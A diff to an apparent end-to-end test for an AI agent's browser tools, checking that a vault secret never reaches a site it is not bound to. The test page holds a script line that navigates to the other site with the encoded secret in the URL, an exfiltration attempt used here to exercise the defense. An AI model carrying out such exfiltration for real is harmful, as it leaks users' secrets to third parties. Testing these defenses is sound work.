@@ -15,6 +15,7 @@ describe("browser: a vault value never leaves for a site it is not bound to", ()
   let bound: TestSite;
   let other: TestSite;
   let rig: BrowserRig;
+  const refused: string[] = [];
 
   beforeAll(async () => {
     bound = await TestSite.start();
@@ -36,10 +37,15 @@ describe("browser: a vault value never leaves for a site it is not bound to", ()
         setTimeout(() => { location.href = "${B}/nav?k=${enc}"; }, 300);
       </script>`,
     );
+    bound.page("/plain", "<h1>plain</h1>");
     const boundOrigin = bound.origin;
     rig = await browserRig({
       allowed: [bound.hostPort, other.hostPort],
-      secretCheck: (texts, origin) => (origin === boundOrigin ? [] : secretsIn(texts.join("\n"), [{ name: "KEY", value: VALUE }]).map((s) => s.name!)),
+      secretCheck: (texts, origin) => {
+        const names = origin === boundOrigin ? [] : secretsIn(texts.join("\n"), [{ name: "KEY", value: VALUE }]).map((s) => s.name!);
+        if (names.length > 0) refused.push(origin);
+        return names;
+      },
     });
   }, 60_000);
 
@@ -52,9 +58,15 @@ describe("browser: a vault value never leaves for a site it is not bound to", ()
   it("image, fetch (URL, header, body), navigation: refused when they carry the value; harmless requests pass", async () => {
     const result = await rig.run("browser_open", { url: `${bound.origin}/echo` });
     expect(result.ok).toBe(true);
-    await new Promise((r) => setTimeout(r, 1500));
-    const read = await rig.run("browser_read", {});
-    expect(JSON.stringify([result, read])).toMatch(/secret_unbound_destination/);
+    // Wait until the page's attempts were made (the check saw them) and the harmless image arrived.
+    for (let i = 0; i < 40 && (refused.length < 4 || !other.hits.some((h) => h.url.startsWith("/ok.png"))); i++) await new Promise((r) => setTimeout(r, 250));
+    await new Promise((r) => setTimeout(r, 500));
+    // Image, fetch by URL, header and body, navigation: each refused on its way to the other site.
+    expect(refused.length).toBeGreaterThanOrEqual(4);
+    expect(new Set(refused)).toEqual(new Set([other.origin]));
+    // The refusals are told to the model with the next tool result (origin only).
+    const next = await rig.run("browser_open", { url: `${bound.origin}/plain` });
+    expect(JSON.stringify([result, next])).toMatch(/secret_unbound_destination/);
     // The harmless image reached the other site; nothing that carries the value did.
     expect(other.hits.some((h) => h.url.startsWith("/ok.png"))).toBe(true);
     for (const hit of other.hits) expect(secretsIn(`${hit.url}\n${JSON.stringify(hit.headers)}\n${hit.body}`, [{ value: VALUE }]), hit.url).toEqual([]);
